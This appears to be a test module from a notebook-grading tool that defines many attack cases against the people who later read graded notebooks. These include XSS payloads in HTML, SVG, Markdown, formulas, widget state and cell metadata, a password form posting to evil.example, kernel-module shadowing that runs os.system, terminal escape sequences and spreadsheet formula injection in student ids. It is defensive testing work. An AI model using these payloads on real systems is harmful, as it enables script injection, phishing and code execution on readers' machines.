"""The reader's side: what would run in a browser, a spreadsheet or a terminal of somebody else."""

from __future__ import annotations

from typing import Any

from grader.doctor.attacks.case import READER, Case, Draft, answers, code

_SVG = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>alert(2)</script><animate onbegin=alert(3)></animate><use href='https://evil.example/x.svg#a'/></svg>"


def _html(name: str, tries: str, page: str) -> Case:
    return code(name, READER, tries, f"from IPython.display import HTML, display\ndisplay(HTML({page!r}))")


def _text(name: str, tries: str, text: str) -> Case:
    return Case(name, READER, tries, lambda draft: draft.insert(text, kind="markdown"))


def _data(name: str, tries: str, kind: str, content: str) -> Case:
    return code(name, READER, tries, f"from IPython.display import display\ndisplay({{{kind!r}: {content}}}, raw=True)")


def _edited(name: str, tries: str, act: Any) -> Case:
    return Case(name, READER, tries, act)


def _widgets(draft: Draft) -> None:
    state = {"m": {"model_name": "HTMLModel", "state": {"value": "<img src=x onerror=alert(1)>"}}}
    draft.notebook["metadata"]["widgets"] = {
        "application/vnd.jupyter.widget-state+json": {"state": state, "version_major": 2, "version_minor": 0}
    }
    view = {"application/vnd.jupyter.widget-view+json": {"model_id": "m", "version_major": 2, "version_minor": 0}}
    draft.cell("sigmoid")["outputs"] = [{"output_type": "display_data", "data": view, "metadata": {}}]


def _attachment(draft: Draft) -> None:
    cell = draft.insert("![x](attachment:x.svg)", kind="markdown")
    cell["attachments"] = {"x.svg": {"image/svg+xml": _SVG}, 'x" onerror="alert(1)': {"image/png": "AAAA"}}


def _modules(draft: Draft) -> None:
    for name in ("ipykernel_launcher", "contextlib", "warnings"):
        draft.beside(f"{name}.py", "import os\nos.system('touch ~/@MARK@')")


def _ids(draft: Draft) -> None:
    for number, cell in enumerate(draft.cells):
        cell["id"] = f"x'><script>alert({number})</script>"[:64]
        cell["metadata"]["tags"] = ["'\"><script>alert(1)</script>"]
        cell["metadata"]["name"] = "<script>alert(1)</script>"


def _old_outputs(draft: Draft) -> None:
    data = {"text/html": "<script>alert(1)</script>", "application/javascript": "alert(2)"}
    draft.cell("sigmoid")["outputs"] = [{"output_type": "display_data", "data": data, "metadata": {}}]


def _title(draft: Draft) -> None:
    draft.notebook["metadata"].update(title="</title><script>alert(1)</script>", authors=[{"name": "<script>alert(1)</script>"}])
    draft.notebook["metadata"]["kernelspec"] = {"name": "python3", "display_name": "<script>alert(1)</script>", "language": "python"}
    draft.notebook["metadata"]["language_info"] = {"name": "python", "pygments_lexer": "<script>alert(1)</script>"}


_MATH = r"$$\href{javascript:alert(1)}{x} \unicode{<img src=x onerror=alert(2)>}$$ $\require{html}\style{background:url(https://evil.example)}{y}$"

CASES = [
    _html("script-in-html", "a script in displayed HTML", "<script>alert(1)</script>"),
    _html("handlers-in-html", "event handlers in displayed HTML", "<img src=x onerror=alert(1)><details ontoggle=alert(2) open><b onmouseover=alert(3)>x</b>"),
    _html("script-addresses", "links to scripts", "<a href='javascript:alert(1)'>a</a><a href='java\nscript:alert(2)'>b</a><a href=' &#106;avascript:alert(3)'>c</a><a href='data:text/html,<script>alert(4)</script>'>d</a>"),
    _html("frames", "frames and objects", "<iframe src='https://evil.example' srcdoc='<script>alert(1)</script>'></iframe><object data='https://evil.example'></object><embed src='https://evil.example'>"),
    _html("outside-pictures", "pictures from outside tell who reads the page", "<img src='https://evil.example/x.png'><img srcset='https://evil.example/y.png 2x'><video poster='//evil.example/z.png'></video>"),
    _html("styles-from-outside", "styles that load from outside", "<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example/y.png)}</style><p style='background:url(//evil.example/z.png)'>x</p><link rel=stylesheet href='https://evil.example/a.css'>"),
    _html("a-form", "a form that asks for a password", "<form action='https://evil.example'><input name=password><button formaction='javascript:alert(1)'>Sign in</button></form>"),
    _html("refreshes-and-bases", "sends the reader elsewhere", "<meta http-equiv='refresh' content='0;url=https://evil.example'><base href='https://evil.example/'>"),
    _html("mutations", "HTML that becomes a script when it is cleaned", "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'></table></math><noscript><p title='</noscript><img src=x onerror=alert(2)>'>"),
    _html("svg-in-html", "scripts in SVG within HTML", _SVG),
    _data("svg-output", "scripts in an SVG picture", "image/svg+xml", repr(_SVG)),
    _data("javascript-output", "JavaScript as an output", "application/javascript", "'alert(1)'"),
    _data("markdown-output", "a script in displayed Markdown", "text/markdown", "'<script>alert(1)</script> [x](javascript:alert(2)) <img src=x onerror=alert(3)>'"),
    _data("latex-output", "a script in a displayed formula", "text/latex", repr(_MATH)),
    _data("vega-output", "a chart that loads from outside", "application/vnd.vegalite.v5+json", "{'data': {'url': 'https://evil.example/x.json'}}"),
    _data("pdf-output", "a PDF as an output", "application/pdf", "'JVBERi0='"),
    _data("a-picture-that-is-html", "HTML in place of a picture's data", "image/png", "'x\\'><script>alert(1)</script>'"),
    _text("script-in-text", "a script in Markdown", "<script>alert(1)</script> <img src=x onerror=alert(2)>"),
    _text("script-links-in-text", "links to scripts in Markdown", "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(2)) ![c](https://evil.example/x.png) <javascript:alert(3)> [d](data:text/html;base64,PHNjcmlwdD4=)"),
    _text("html-blocks-in-text", "unclosed HTML in Markdown", "<div><!-- \n\n</div><style>@import url(https://evil.example/x.css)</style>\n\n<svg><script>alert(1)</script></svg>\n\n<iframe srcdoc='<script>alert(2)</script>'>"),
    _text("formulas-in-text", "scripts in formulas", _MATH),
    _text("code-in-text", "a script that hides in a code block's language", "```<script>alert(1)</script>\nx\n```\n\n```'onload=alert(2)\nx\n```\n\n`<script>`</code><script>alert(3)</script>"),
    _edited("widget-state", "scripts in the state of widgets", _widgets),
    _edited("attachments", "scripts in attached pictures", _attachment),
    _edited("ids-and-tags", "scripts in ids, names and tags of cells", _ids),
    _edited("old-outputs", "scripts in outputs that were handed in", _old_outputs),
    _edited("modules-of-the-kernel", "files that the kernel imports when somebody opens the notebook", _modules),
    _edited("titles", "scripts in the notebook's title, authors and kernel", _title),
    answers("a-script-in-an-error", READER, "a script in an error's name and text", most=80, relu="E = type('<script>alert(1)</script>', (Exception,), {})\ndef relu(z):\n    raise E('<img src=x onerror=alert(2)>')"),
    answers("a-script-in-a-value", READER, "a script in what an exercise returns and prints", most=80, relu="def relu(z):\n    print('<script>alert(1)</script>')\n    return '<script>alert(2)</script>'"),
    answers("a-script-in-an-answer", READER, "a script in a value's text", most=80, evens="evens = {'<script>alert(1)</script>', \"<img src=x onerror='alert(2)'>\"}\nevens"),
    code("a-script-in-a-traceback", READER, "a script in a traceback", "exec(compile('raise ValueError(\"<script>alert(1)</script>\")', '<img src=x onerror=alert(2)>', 'exec'))"),
    code("escapes-in-output", READER, "terminal escapes in output and errors", "import sys\nprint('\\x1b]0;@MARK@\\x07')\nsys.stderr.write('\\x1b]0;@MARK@\\x07')\nraise ValueError('\\x1b]0;@MARK@\\x07\\x1b[2J')"),
    answers("escapes-in-an-answer", READER, "terminal escapes in an error of an exercise", most=80, relu="def relu(z):\n    raise ValueError('\\x1b]0;@MARK@\\x07')"),
    code("escapes-in-a-name", READER, "terminal escapes in a kernel's last words", "import os, sys\nos.write(2, b'\\x1b]0;@MARK@\\x07\\n')\nos.write(1, b'\\x1b]0;@MARK@\\x07\\n')\nos._exit(3)"),
    Case("a-formula-as-id", READER, "a student's id that a spreadsheet runs", lambda draft: None, student="=HYPERLINK(evil)"),
    Case("a-command-as-id", READER, "a student's id that a spreadsheet sends to a shell", lambda draft: None, student="@SUM(1+1)*cmd"),
    Case("a-sum-as-id", READER, "a student's id that a spreadsheet adds up", lambda draft: None, student="+1-2"),
    Case("a-sum-behind-a-semicolon", READER, "a student's id that is a formula where semicolons part a table", lambda draft: None, student="a;=1+1"),
    Case("a-script-as-id", READER, "a student's id that is a script", lambda draft: None, student="<img src=x onerror=alert(1)>"),
    Case("an-option-as-id", READER, "a student's id that is an option of a program", lambda draft: None, student="--help"),
]  # fmt: skip
